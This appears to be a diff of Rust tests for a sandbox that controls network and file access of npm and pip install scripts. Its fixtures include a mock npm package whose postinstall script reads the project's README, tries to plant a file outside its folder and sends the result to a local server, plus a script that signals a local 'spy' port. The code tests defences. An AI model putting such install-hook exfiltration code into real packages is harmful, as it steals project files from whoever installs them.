@@ -12,7 +12,7 @@ use std::process::Command;
 use gavel_domain::HostRefusal;
 use gavel_rules::{Destination, NamedBy};
 use gavel_workspace::{
-    NodeInstall, NodeManager, Profile, PythonInstall, Recipe, ScriptRunner, Verification,
+    NodeInstall, NodeManager, PythonInstall, Recipe, ScriptHosts, ScriptRunner, Verification,
     VerifyPlan, VerifyReason, Walls, verify,
 };
 use tokio_util::sync::CancellationToken;
@@ -84,7 +84,7 @@ pub(crate) fn told(seen: &Verification) -> String {
 fn reached(seen: &Verification) -> Vec<u16> {
     let mut ports = Vec::new();
     for ran in &seen.install {
-        assert!(ran.profile == Profile::Install || ran.outcome.hosts.is_empty());
+        assert!(!ran.offline || ran.outcome.hosts.is_empty());
         ports.extend(ran.outcome.hosts.iter().map(|host| host.port));
     }
     ports.dedup();
@@ -117,7 +117,7 @@ fn packed(above: &Path, name: &str) -> Vec<u8> {
 /// JavaScript that tries to tell the spy, and leaves a mark that says whether there was a network.
 pub(crate) fn telltale(port: u16, mark: &str) -> String {
     format!(
-        "require('fs').appendFileSync('{mark}', process.env.HTTPS_PROXY || 'offline ');\n\
+        "require('fs').appendFileSync('{mark}', process.env.CARGO_NET_OFFLINE ? 'offline ' : 'http');\n\
          const s = require('net').connect({port}, '127.0.0.1', () => {{ s.write('GET /caught\\r\\n\\r\\n'); s.end(); }});\n\
          s.on('error', () => process.exit(0));\n"
     )
@@ -596,5 +596,203 @@ async fn commands_that_a_project_names_have_no_network_until_a_person_says_so() 
             told(&seen)
         );
         assert_eq!(reached(&seen), [registry.port()]);
+    }
+}
+
+/// Downloads a file by the proxy that the environment names, looks for the project beside the packages,
+/// and tells the same server what it found.
+fn downloads(files: &Web) -> String {
+    format!(
+        r#"const fs = require('fs'), http = require('http');
+let saw = 'nothing';
+try {{ saw = fs.readFileSync('../../README.md', 'utf8').trim(); }} catch (error) {{ saw = error.code; }}
+try {{ fs.writeFileSync('../../planted', 'x'); saw += '+planted'; }} catch (error) {{ saw += '+' + error.code; }}
+const proxy = process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY) : null;
+if (!proxy) process.exit(4);
+http.get({{ host: proxy.hostname, port: proxy.port, path: '{url}/' + encodeURIComponent(saw), agent: false }}, (answer) => {{
+  if (answer.statusCode !== 200) process.exit(5);
+  answer.resume();
+  answer.on('end', () => process.exit(0));
+}}).on('error', () => process.exit(6));
+"#,
+        url = files.url()
+    )
+}
+
+/// A registry with the package `left`, whose script downloads.
+fn registry_of_a_downloader(room: &Room, files: &Web) -> Web {
+    let folder = room.outside().join("downloader");
+    let manifest = r#"{"name":"left","version":"1.0.0","scripts":{"postinstall":"node get.js"}}"#;
+    put(&folder.join("package/package.json"), manifest);
+    put(&folder.join("package/index.js"), "module.exports = 1;\n");
+    put(&folder.join("package/get.js"), &downloads(files));
+    let archive = packed(&folder, "package");
+    Web::start_at(move |path, url| {
+        match path {
+        "/left" => Some(
+            format!(
+                r#"{{"name":"left","dist-tags":{{"latest":"1.0.0"}},"versions":{{"1.0.0":{{"name":"left","version":"1.0.0","hasInstallScript":true,"scripts":{{"postinstall":"node get.js"}},"dist":{{"tarball":"{url}/left.tgz"}}}}}}}}"#
+            )
+            .into_bytes(),
+        ),
+        "/left.tgz" => Some(archive.clone()),
+        _ => None,
+    }
+    })
+}
+
+#[tokio::test]
+async fn scripts_of_dependencies_reach_the_host_that_a_person_allowed_and_do_not_see_the_project() {
+    for mut room in rooms().await {
+        let files = Web::start(|_| Some(b"binary".to_vec()));
+        let registry = registry_of_a_downloader(&room, &files);
+        name_registry(&mut room, &registry);
+        room.toolchains.registries.npm = vec![format!("registry={}/", registry.url())];
+        write(&room, "README.md", "the project's text\n");
+        let manifest = r#"{"scripts":{"test":"node --test","postinstall":"touch own-ran"},"dependencies":{"left":"1.0.0"}}"#;
+        write(&room, "package.json", manifest);
+        write(&room, "a.test.js", NODE_TEST);
+        let seen = verified(&room, NPM).await;
+        // Without an answer: the host is named, nothing is reached, and the tests go on.
+        assert_eq!(
+            seen.judgement.reason,
+            VerifyReason::AllPassed,
+            "{}",
+            told(&seen)
+        );
+        assert_eq!(files.asked(), Vec::<String>::new());
+        assert_eq!(
+            refused(&seen),
+            [(files.port(), HostRefusal::NotAllowed)],
+            "{}",
+            told(&seen)
+        );
+        let rebuilt = seen
+            .install
+            .iter()
+            .find(|ran| !ran.outcome.refused.is_empty())
+            .unwrap();
+        let scripts = rebuilt.scripts.clone().unwrap();
+        assert_eq!(
+            (rebuilt.offline, scripts.packages.as_slice()),
+            (true, ["left@1.0.0".to_owned()].as_slice())
+        );
+        // Once a person agreed to these scripts, they download; of the project they see nothing.
+        fs::remove_file(room.tree().join("planted")).unwrap();
+        let host = Destination::new("127.0.0.1", files.port()).unwrap();
+        room.toolchains.registries.scripts = vec![ScriptHosts {
+            scripts: scripts.digest,
+            host,
+        }];
+        let seen = verified(&room, NPM).await;
+        assert_eq!(
+            seen.judgement.reason,
+            VerifyReason::AllPassed,
+            "{}",
+            told(&seen)
+        );
+        let asked = files.asked();
+        let unseen = ["/EACCES%2BEACCES", "/ENOENT%2BEROFS"];
+        assert!(
+            matches!(asked.as_slice(), [one] if unseen.contains(&one.as_str())),
+            "{asked:?} {}",
+            told(&seen)
+        );
+        assert_eq!(refused(&seen), [], "{}", told(&seen));
+        assert!(!room.tree().join("planted").exists());
+        // The project's own script ran beside, without network.
+        let own = seen
+            .install
+            .iter()
+            .find(|ran| ran.argv.to_string() == "npm run postinstall");
+        assert!(own.is_some_and(|ran| ran.offline), "{}", told(&seen));
+        assert!(room.tree().join("own-ran").exists());
+        // What was put beside the packages is another script: nobody agreed to that.
+        write(&room, "node_modules/left/more.js", "1\n");
+        let seen = verified(&room, NPM).await;
+        assert_eq!(files.asked().len(), 1, "{}", told(&seen));
+        assert_eq!(
+            refused(&seen),
+            [(files.port(), HostRefusal::NotAllowed)],
+            "{}",
+            told(&seen)
+        );
+    }
+}
+
+/// A repository in git that can be cloned from plain files, with one Python package.
+fn git_over_http(room: &Room) -> Web {
+    let folder = room.outside().join("git");
+    let source = folder.join("source");
+    let backend = "import zipfile\n\
+        def build_wheel(folder, config_settings=None, metadata_directory=None):\n\
+        \x20   name = 'up-1.0-py3-none-any.whl'\n\
+        \x20   with zipfile.ZipFile(folder + '/' + name, 'w') as z:\n\
+        \x20       z.writestr('up.py', 'x = 1\\n')\n\
+        \x20       z.writestr('up-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: up\\nVersion: 1.0\\n')\n\
+        \x20       z.writestr('up-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
+        \x20       z.writestr('up-1.0.dist-info/RECORD', '')\n\
+        \x20   return name\n";
+    put(&source.join("backend.py"), backend);
+    put(
+        &source.join("pyproject.toml"),
+        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
+    );
+    let git = |words: &[&str]| {
+        let name = ["-c", "user.name=a", "-c", "user.email=a@localhost"];
+        let done = Command::new("git").args(name).args(words).output().unwrap();
+        assert!(done.status.success(), "{done:?}");
+    };
+    git(&["init", "-q", "-b", "main", text(&source)]);
+    git(&["-C", text(&source), "add", "-A"]);
+    git(&["-C", text(&source), "commit", "-q", "-m", "start"]);
+    let bare = folder.join("up.git");
+    git(&["clone", "-q", "--bare", text(&source), text(&bare)]);
+    git(&["-C", text(&bare), "update-server-info"]);
+    Web::start(move |path| {
+        let name = path.split('?').next()?.strip_prefix("/up.git/")?;
+        fs::read(bare.join(name)).ok()
+    })
+}
+
+#[tokio::test]
+async fn a_python_package_in_git_comes_from_the_host_that_a_person_allowed() {
+    for mut room in rooms().await {
+        let server = git_over_http(&room);
+        let line = format!("up @ git+{}/up.git@main\n", server.url());
+        write(&room, "requirements.txt", &line);
+        write(
+            &room,
+            "manage.py",
+            "import sys, unittest\nimport up\nclass A(unittest.TestCase):\n    def test_a(self): self.assertEqual(up.x, 1)\n\
+             sys.argv = ['manage.py', '-v']\nunittest.main()\n",
+        );
+        let recipe = Recipe::Django {
+            install: PythonInstall::Requirements,
+        };
+        let seen = verified(&room, recipe.clone()).await;
+        assert_eq!(
+            seen.judgement.reason,
+            VerifyReason::InstallFailed,
+            "{}",
+            told(&seen)
+        );
+        assert_eq!(server.asked(), Vec::<String>::new());
+        assert_eq!(refused(&seen), [(server.port(), HostRefusal::NotAllowed)]);
+        assert!(
+            seen.install
+                .iter()
+                .all(|ran| !ran.offline || ran.outcome.refused.is_empty())
+        );
+        let host = Destination::new("127.0.0.1", server.port()).unwrap();
+        room.toolchains.registries.reach.allow_by_answer(host);
+        let seen = verified(&room, recipe).await;
+        assert_eq!(
+            seen.judgement.reason,
+            VerifyReason::AllPassed,
+            "{}",
+            told(&seen)
+        );
+        assert_eq!(refused(&seen), []);
     }
 }
